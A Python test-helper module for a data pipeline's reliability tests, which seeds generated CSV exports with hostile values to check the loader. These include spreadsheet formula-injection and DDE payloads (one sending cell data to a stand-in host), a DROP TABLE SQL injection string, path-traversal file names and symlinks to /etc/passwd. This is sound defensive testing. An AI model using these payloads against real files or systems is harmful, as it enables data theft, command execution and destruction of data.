"""Shared helpers of the reliability tests (tests/test_ops_*.py) and of `make reliability`.

- a *batch* of new exports (July 2024, generated) seeded with hostile content: spreadsheet
  formulas in every free-text field, SQL-looking text, and files with odd names;
- copying a published state (landing + warehouse files) so each fault scenario starts from the
  same previous publication;
- running `monev load` as a subprocess in its own process group (so a SIGKILL hits dbt too);
- reading the published figures (kpi_indikator, kpi_rincian) for before/after comparison;
- recording measured figures in reliability/results/*.json, from which reliability/report.py
  writes reliability/RESULTS.md.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import duckdb

ROOT = Path(__file__).resolve().parents[1]
RESULTS_DIR = Path(os.environ.get("MONEV_RELIABILITY_RESULTS") or ROOT / "reliability" / "results")

# Hostile values put into free-text fields of the batch (EXPORT_SPEC free-text columns).
FORMULAS = {
    "nama_kegiatan": '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")',
    "mitra": "+cmd|' /C calc'!A0",
    "nama_produk": "@SUM(1+1)*cmd|' /C calc'!A0",
    "keterangan": "-2+3+cmd|' /C calc'!A0",
    "minat_bakat": "=1+1",
}
FORMULA_KINDS = {"kegiatan": ("nama_kegiatan", "mitra"), "produksi": ("nama_produk",),
                 "penjualan": ("nama_produk", "mitra"), "pnbp": ("keterangan",), "narapidana": ("minat_bakat",)}
SQL_TEXT = "'; DROP TABLE kpi_indikator; --"

# Odd file names (all must be registered as rejected, never followed outside the landing folder).
ODD_NAMES = [
    "UPT0001 narapidana 202407.csv",                     # spaces
    "UPT0001_narapidána_202407.csv",                     # unicode
    "=HYPERLINK(\"x.invalid\")_pnbp_202407.csv",          # a formula as a name
    "'; DROP TABLE raw.pnbp; --_pnbp_202407.csv",        # SQL as a name
    "..%2F..%2Fetc%2Fpasswd_pnbp_202407.csv",            # encoded traversal
    "UPT0001_pnbp_202407.csv.." ,                         # trailing dots
    "U" * 200 + "_pnbp_202407.csv",                       # very long
    "UPT0001_pnbp_202407\n.csv",                          # newline in the name
]


def monev_env(dagster_home: Path, **extra: str) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONEV_FAULT")}
    env.update({"DAGSTER_HOME": str(dagster_home), "GX_ANALYTICS_ENABLED": "false", "DO_NOT_TRACK": "1",
                "PYTHONUNBUFFERED": "1"})
    env.update(extra)
    return env


def run_load(landing: Path, warehouse: Path, dagster_home: Path, *args: str, timeout: int = 900,
             **env_extra: str) -> subprocess.CompletedProcess:
    """`monev load` in its own session/process group; returns the completed process (rc -9 = killed)."""
    dagster_home.mkdir(parents=True, exist_ok=True)
    cmd = [sys.executable, "-m", "dagster_project.cli", "load", "--landing", str(landing), "--warehouse",
           str(warehouse), *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, start_new_session=True,
                          env=monev_env(dagster_home, **env_extra), cwd=ROOT)


def start_load(landing: Path, warehouse: Path, dagster_home: Path, log: Path, **env_extra: str) -> subprocess.Popen:
    dagster_home.mkdir(parents=True, exist_ok=True)
    cmd = [sys.executable, "-m", "dagster_project.cli", "load", "--landing", str(landing), "--warehouse",
           str(warehouse)]
    fh = log.open("w")
    return subprocess.Popen(cmd, stdout=fh, stderr=subprocess.STDOUT, start_new_session=True,
                            env=monev_env(dagster_home, **env_extra), cwd=ROOT)


def copy_state(landing: Path, warehouse: Path, dest: Path) -> tuple[Path, Path]:
    """Copy a landing folder and the warehouse files beside `warehouse` (mtimes kept)."""
    dest.mkdir(parents=True, exist_ok=True)
    new_landing = dest / "landing"
    shutil.copytree(landing, new_landing, symlinks=True)
    wh_dir = dest / "warehouse"
    wh_dir.mkdir()
    for f in warehouse.parent.iterdir():
        if f.is_file() and f.name.startswith(warehouse.stem) and ".next" not in f.name:
            shutil.copy2(f, wh_dir / f.name)
    return new_landing, wh_dir / warehouse.name


def _rewrite_csv(path: Path, fields: tuple[str, ...]) -> int:
    text = path.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header = [h.strip().lower() for h in rows[0]]
    idx = [header.index(f) for f in fields if f in header]
    n = 0
    for i, row in enumerate(rows[1:], start=1):
        if i % 3 == 1:  # every third row: enough to reach every download, the rest stays ordinary
            for j in idx:
                if j < len(row):
                    row[j] = FORMULAS[header[j]]
                    n += 1
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    st = path.stat()
    path.write_text(buf.getvalue(), encoding="utf-8")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    return n


def make_batch(dest: Path, seed: int = 11) -> dict:
    """New exports for July 2024 under dest/ with formula cells in free-text fields and odd names."""
    from dagster_project.generator import generate

    scratch = dest.parent / (dest.name + ".gen")
    generate(scratch, scale="mini", months=("2024-07", "2024-07"), seed=seed)
    manifest = json.loads((scratch / "manifest.json").read_text(encoding="utf-8"))
    injected = 0
    for f in manifest["files"]:
        if (f["format"] == "csv" and f["encoding"] == "utf-8" and f["delimiter"] == "," and f["expect"] == "accept"
                and f["kind"] in FORMULA_KINDS and f["role"] == "original"):
            injected += _rewrite_csv(scratch / f["path"], FORMULA_KINDS[f["kind"]])
    (scratch / "manifest.json").unlink()
    shutil.copytree(scratch, dest, symlinks=True, dirs_exist_ok=True)
    shutil.rmtree(scratch)
    odd = dest / "aneh"
    odd.mkdir(parents=True, exist_ok=True)
    for name in ODD_NAMES:
        (odd / name).write_text("ntpn,tanggal_setor\n1,2024-07-01\n", encoding="utf-8")
    # Symlinks out of the landing folder must never be followed.
    (odd / "UPT0001_narapidana_202407.csv").symlink_to("/etc/passwd")
    (odd / "tautan_keluar").symlink_to("/etc")
    return {"files": sum(1 for _ in dest.rglob("*") if _.is_file() and not _.is_symlink()),
            "formula_cells": injected, "odd_names": len(ODD_NAMES) + 2}


def figures(serving: Path) -> dict:
    """The published figures, for exact comparison: kpi_indikator and kpi_rincian, sorted."""
    con = duckdb.connect(":memory:")
    try:
        escaped = str(serving).replace("'", "''")
        con.execute(f"attach '{escaped}' as s (read_only)")
        out = {}
        for t, key in (("kpi_indikator", "level, kode, periode"), ("kpi_rincian", "level, kode, periode, dimensi, nilai")):
            cols = {r[0] for r in con.execute(
                "select column_name from information_schema.columns where table_catalog = 's' and table_name = ?",
                [t]).fetchall()}
            # id_file_terakhir is lineage (file ids of this warehouse's registrations), not a figure
            sel = "* exclude (id_file_terakhir)" if "id_file_terakhir" in cols else "*"
            out[t] = con.execute(f"select {sel} from s.{t} order by {key}").fetchall()
        out["load_id"] = con.execute("select load_id from s.publikasi").fetchone()[0]
        return out
    finally:
        con.close()


def same_figures(a: dict, b: dict) -> bool:
    return a["kpi_indikator"] == b["kpi_indikator"] and a["kpi_rincian"] == b["kpi_rincian"]


def record(name: str, data: dict) -> None:
    """Store measured figures for reliability/RESULTS.md (one JSON per test area)."""
    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
    data = {"recorded_at": time.strftime("%Y-%m-%d %H:%M:%S"), **data}
    (RESULTS_DIR / f"{name}.json").write_text(json.dumps(data, indent=2, default=str), encoding="utf-8")
